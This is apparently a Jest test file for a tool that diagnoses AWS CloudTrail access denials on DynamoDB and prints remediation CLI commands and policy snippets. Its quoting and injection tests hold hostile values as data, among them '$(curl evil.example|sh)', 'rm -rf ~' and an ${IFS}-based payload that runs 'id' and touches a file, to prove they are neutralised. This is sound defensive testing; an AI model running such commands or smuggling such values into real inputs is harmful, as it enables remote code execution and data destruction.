import { execFileSync, spawnSync } from 'node:child_process';
import { CAUSES, diagnose, shellQuote, type CloudTrailRecord, type Diagnosis } from '../../../core/diagnosis';
import { pasteIntoBash } from '../../support/paste-shell';
import { loadSample, sampleFiles } from './samples';

const diagnoseSample = (file: string, change: (record: CloudTrailRecord) => void = () => undefined): Diagnosis => {
  const record = structuredClone(loadSample(file).detail) as CloudTrailRecord;
  change(record);
  const diagnosis = diagnose(record);
  if (!diagnosis) throw new Error(`${file} is not a denial`);
  return diagnosis;
};
const commandsOf = (diagnosis: Diagnosis): string[] => diagnosis.remediation.commands.map((command) => command.command);

describe('shellQuote', () => {
  it.each([
    ['Orders', 'Orders'],
    ['arn:aws:dynamodb:eu-west-1:111122223333:table/Orders', 'arn:aws:dynamodb:eu-west-1:111122223333:table/Orders'],
    ['my table', "'my table'"],
    ["it's", "'it'\\''s'"],
    ['$(curl evil.example|sh)', "'$(curl evil.example|sh)'"],
    ['a;rm -rf ~', "'a;rm -rf ~'"],
    ['arn:aws:ec2:us-east-1:1:instance/*', "'arn:aws:ec2:us-east-1:1:instance/*'"],
    ['`id`', "'`id`'"],
  ])('%s → %s', (value, quoted) => {
    expect(shellQuote(value, 'X')).toBe(quoted);
  });

  it.each([
    [null],
    [undefined],
    [''],
    ['line\nbreak'],
    ['esc\u001b[2J'],
    ['tab\tcompletes'],
    ['bidi\u202Eoverride'],
    ['isolate\u2066'],
    ['separator\u2028'],
    ['nel\u0085'],
    ['zero\u200Bwidth'],
  ])('%j becomes a visible placeholder', (value) => {
    expect(shellQuote(value, 'TABLE_NAME')).toBe("'<TABLE_NAME>'");
  });
});

describe("remediation per cause, filled with the event's values", () => {
  it("identity-policy, implicit: list the role's policies, simulate, and the minimal identity-policy allow", () => {
    const diagnosis = diagnoseSample('identity-policy-implicit.json');
    expect(commandsOf(diagnosis)).toEqual([
      'aws iam list-attached-role-policies --role-name app-backend',
      'aws iam list-role-policies --role-name app-backend',
      'aws iam simulate-principal-policy --policy-source-arn arn:aws:iam::111122223333:role/app-backend --action-names dynamodb:GetItem --resource-arns arn:aws:dynamodb:eu-west-1:111122223333:table/Orders',
    ]);
    expect(diagnosis.remediation.policySnippet).toEqual({
      attachTo: 'identity policy of arn:aws:iam::111122223333:role/app-backend',
      document: {
        Version: '2012-10-17',
        Statement: [
          {
            Sid: 'AllowDeniedCall',
            Effect: 'Allow',
            Action: 'dynamodb:GetItem',
            Resource: 'arn:aws:dynamodb:eu-west-1:111122223333:table/Orders',
          },
        ],
      },
    });
  });

  it('identity-policy, explicit: no snippet; the named policy is fetched; steps say to narrow the deny', () => {
    const diagnosis = diagnoseSample('identity-policy-explicit.json');
    expect(diagnosis.remediation.policySnippet).toBeNull();
    expect(commandsOf(diagnosis)[0]).toBe('aws iam get-policy --policy-arn arn:aws:iam::111122223333:policy/ProtectProductionTables');
    expect(diagnosis.remediation.steps[0]).toMatch(
      /Find the Deny statement for dynamodb:DeleteTable .*arn:aws:iam::111122223333:policy\/ProtectProductionTables.*narrow it/,
    );
  });

  it('vpc-endpoint-policy: the endpoint named by the record', () => {
    expect(commandsOf(diagnoseSample('vpc-endpoint-policy.json'))[0]).toBe(
      "aws ec2 describe-vpc-endpoints --vpc-endpoint-ids vpce-0a1b2c3d4e5f67890 --region eu-west-1 --query 'VpcEndpoints[].PolicyDocument'",
    );
  });

  it('vpc-endpoint-policy without an endpoint id: the endpoints of the service in the region', () => {
    const diagnosis = diagnoseSample('vpc-endpoint-policy.json', (record) => {
      delete record.vpcEndpointId;
    });
    expect(commandsOf(diagnosis)[0]).toBe(
      "aws ec2 describe-vpc-endpoints --filters Name=service-name,Values=com.amazonaws.eu-west-1.dynamodb --region eu-west-1 --query 'VpcEndpoints[].[VpcEndpointId,PolicyDocument]'",
    );
  });

  it("permissions-boundary: the role's boundary, and an allow for the boundary policy", () => {
    const diagnosis = diagnoseSample('permissions-boundary.json');
    expect(commandsOf(diagnosis)[0]).toBe('aws iam get-role --role-name team-payments-dev --query Role.PermissionsBoundary');
    expect(diagnosis.remediation.policySnippet?.attachTo).toBe(
      'permissions boundary policy of arn:aws:iam::111122223333:role/developers/team-payments-dev',
    );
  });

  it('session-policy: find the AssumeRole call of this session (a JMESPath raw string: no backtick, which Slack code blocks cannot carry)', () => {
    expect(commandsOf(diagnoseSample('session-policy.json'))[0]).toBe(
      "aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventName,AttributeValue=AssumeRole --region eu-west-1 --query 'Events[?contains(CloudTrailEvent, '\\''nightly-import'\\'')].CloudTrailEvent'",
    );
  });

  // The AWS CLI evaluates --query with Python's jmespath; without it the test is skipped, visibly.
  const jmespathAvailable = spawnSync('python3', ['-c', 'import jmespath'], { encoding: 'utf8' }).status === 0;
  if (!jmespathAvailable)
    console.warn("python3 with jmespath (the AWS CLI's JMESPath) is not installed: the session lookup query is not evaluated");
  (jmespathAvailable ? it : it.skip)(
    'session-policy: the query selects the AssumeRole event of the session with a real JMESPath implementation',
    () => {
      const [lookup] = commandsOf(diagnoseSample('session-policy.json'));
      const [run] = pasteIntoBash([lookup]);
      const query = run.awsCalls[0][run.awsCalls[0].indexOf('--query') + 1];
      const events = {
        Events: [
          {
            CloudTrailEvent: JSON.stringify({
              eventName: 'AssumeRole',
              requestParameters: { roleSessionName: 'nightly-import', policy: '{}' },
            }),
          },
          { CloudTrailEvent: JSON.stringify({ eventName: 'AssumeRole', requestParameters: { roleSessionName: 'other' } }) },
        ],
      };
      const search = spawnSync(
        'python3',
        ['-c', 'import jmespath, json, sys; print(json.dumps(jmespath.search(sys.argv[1], json.load(sys.stdin))))', query],
        { input: JSON.stringify(events), encoding: 'utf8' },
      );
      expect(JSON.parse(search.stdout)).toEqual([events.Events[0].CloudTrailEvent]);
    },
  );

  it("service-control-policy and resource-control-policy: describe the named policy, list the account's", () => {
    expect(commandsOf(diagnoseSample('resource-control-policy.json')).slice(0, 2)).toEqual([
      'aws organizations describe-policy --policy-id p-examplercp1',
      'aws organizations list-policies-for-target --target-id 111122223333 --filter RESOURCE_CONTROL_POLICY',
    ]);
  });

  it("resource-policy across accounts: the table's resource policy and a statement naming the caller", () => {
    const diagnosis = diagnoseSample('resource-policy-cross-account.json');
    expect(commandsOf(diagnosis)[0]).toBe(
      'aws dynamodb get-resource-policy --resource-arn arn:aws:dynamodb:eu-west-1:111122223333:table/Orders --region eu-west-1',
    );
    expect(diagnosis.remediation.policySnippet).toEqual({
      attachTo: 'resource-based policy of arn:aws:dynamodb:eu-west-1:111122223333:table/Orders',
      document: {
        Version: '2012-10-17',
        Statement: [
          {
            Sid: 'AllowDeniedCall',
            Effect: 'Allow',
            Principal: { AWS: 'arn:aws:iam::444455556666:role/analytics-reader' },
            Action: 'dynamodb:GetItem',
            Resource: 'arn:aws:dynamodb:eu-west-1:111122223333:table/Orders',
          },
        ],
      },
    });
    expect(diagnosis.remediation.steps.join(' ')).toMatch(/both sides must allow the call/);
  });

  it("mfa-required: the user's MFA devices and an MFA session", () => {
    expect(commandsOf(diagnoseSample('mfa-required.json')).slice(0, 2)).toEqual([
      'aws iam list-mfa-devices --user-name alice',
      "aws sts get-session-token --serial-number arn:aws:iam::111122223333:mfa/alice --token-code '<MFA_CODE>'",
    ]);
  });

  it('kms-key-access: table encryption, the key, its policy, and a key-policy statement with kms:ViaService and the six actions', () => {
    const diagnosis = diagnoseSample('kms-key-access.json');
    const key = 'arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab';
    expect(commandsOf(diagnosis).slice(0, 3)).toEqual([
      'aws dynamodb describe-table --table-name Invoices --region eu-west-1 --query Table.SSEDescription',
      `aws kms describe-key --key-id ${key} --region eu-west-1 --query 'KeyMetadata.[KeyState,DeletionDate,KeyManager]'`,
      `aws kms get-key-policy --key-id ${key} --policy-name default --region eu-west-1 --output text`,
    ]);
    expect(diagnosis.remediation.policySnippet).toEqual({
      attachTo: `key policy of ${key}`,
      document: {
        Version: '2012-10-17',
        Statement: [
          {
            Sid: 'AllowUseThroughDynamoDB',
            Effect: 'Allow',
            Principal: { AWS: 'arn:aws:iam::111122223333:role/reporting' },
            Action: ['kms:Encrypt', 'kms:Decrypt', 'kms:ReEncrypt*', 'kms:GenerateDataKey*', 'kms:DescribeKey', 'kms:CreateGrant'],
            Resource: '*',
            Condition: { StringEquals: { 'kms:ViaService': 'dynamodb.eu-west-1.amazonaws.com', 'kms:CallerAccount': '111122223333' } },
          },
        ],
      },
    });
  });

  it("kms-key-unusable: the key's state and the fixes, with a placeholder for the key the record does not name", () => {
    const diagnosis = diagnoseSample('kms-key-disabled.json');
    expect(commandsOf(diagnosis)).toEqual([
      'aws dynamodb describe-table --table-name Invoices --region eu-west-1 --query Table.SSEDescription',
      "aws kms describe-key --key-id '<KEY_ARN from SSEDescription.KMSMasterKeyArn>' --region eu-west-1 --query 'KeyMetadata.[KeyState,DeletionDate,KeyManager]'",
      "aws kms enable-key --key-id '<KEY_ARN>' --region eu-west-1",
      "aws kms cancel-key-deletion --key-id '<KEY_ARN>' --region eu-west-1",
    ]);
    expect(diagnosis.remediation.policySnippet).toBeNull();
  });

  it('unknown: the commands of the top hypotheses', () => {
    const commands = commandsOf(diagnoseSample('unknown-no-message.json'));
    expect(commands).toContain(
      'aws iam simulate-principal-policy --policy-source-arn arn:aws:iam::111122223333:role/catalog-api --action-names dynamodb:BatchGetItem --resource-arns arn:aws:dynamodb:eu-west-1:111122223333:table/Products',
    );
    expect(commands).toContain('aws organizations list-policies-for-target --target-id 111122223333 --filter SERVICE_CONTROL_POLICY');
    expect(commands).toContain(
      'aws dynamodb get-resource-policy --resource-arn arn:aws:dynamodb:eu-west-1:111122223333:table/Products --region eu-west-1',
    );
  });

  it('every cause has a summary, steps and AWS documentation links', () => {
    const seen = new Set<string>();
    for (const file of sampleFiles()) {
      const diagnosis = diagnose(loadSample(file).detail as CloudTrailRecord);
      if (!diagnosis) continue;
      seen.add(diagnosis.cause);
      expect(diagnosis.remediation.summary).toMatch(/\.$/);
      expect(diagnosis.remediation.steps.length).toBeGreaterThanOrEqual(3);
      expect(diagnosis.remediation.docs.length).toBeGreaterThan(0);
      for (const link of diagnosis.remediation.docs) expect(link.url).toMatch(/^https:\/\/(docs\.aws\.amazon\.com|repost\.aws)\//);
    }
    expect(seen.size).toBe(CAUSES.length);
  });

  it('never says DynamoDB has no resource-based policies', () => {
    const text = JSON.stringify(diagnoseSample('resource-policy-cross-account.json').remediation);
    expect(text).toMatch(/resource-based policies since March 2024/);
    expect(text).not.toMatch(/(doesn't|does not) support resource-based policies/);
  });
});

describe('values from the event cannot inject into printed commands', () => {
  // No spaces: a resource ARN in a message ends at whitespace, so a real attack would use ${IFS}.
  const injected = "x';touch${IFS}/tmp/denyscope-pwned-$$;echo${IFS}'$(id)`id`";

  function hostile(): Diagnosis {
    return diagnoseSample('session-policy.json', (record) => {
      const identity = record.userIdentity!;
      identity.arn = `arn:aws:sts::111122223333:assumed-role/data-loader/${injected}`;
      delete identity.sessionContext;
      record.errorMessage = `User: ${identity.arn} is not authorized to perform: dynamodb:BatchWriteItem on resource: arn:aws:dynamodb:eu-west-1:111122223333:table/${injected} because no session policy allows the dynamodb:BatchWriteItem action`;
    });
  }

  it('a shell sees each hostile value as literal text and runs nothing', () => {
    let printed = '';
    for (const command of commandsOf(hostile())) {
      // Replace the aws binary by printf so the shell shows the words it parsed, one per line.
      printed += execFileSync('bash', ['-c', command.replace(/^aws /, "printf '%s\\n' ")], { encoding: 'utf8' });
    }
    expect(printed).toContain(`table/${injected}`);
    expect(printed).not.toMatch(/uid=\d+/);
    expect(execFileSync('bash', ['-c', 'ls /tmp | grep -c denyscope-pwned || true'], { encoding: 'utf8' }).trim()).toBe('0');
  });

  it('a session name AWS would not issue is not written into the lookup query altered: the user fills in a placeholder', () => {
    const [lookup] = commandsOf(hostile());
    const [run] = pasteIntoBash([lookup]);
    expect(run.awsCalls[0].slice(-2)).toEqual(['--query', "Events[?contains(CloudTrailEvent, '<SESSION_NAME>')].CloudTrailEvent"]);
  });

  it('a table name with a newline is replaced by a placeholder', () => {
    const diagnosis = diagnoseSample('kms-key-disabled.json', (record) => {
      record.requestParameters = { tableName: 'Invoices\nrm -rf ~' };
      record.resources = null;
    });
    expect(commandsOf(diagnosis)[0]).toBe(
      "aws dynamodb describe-table --table-name '<TABLE_NAME>' --region eu-west-1 --query Table.SSEDescription",
    );
  });
});
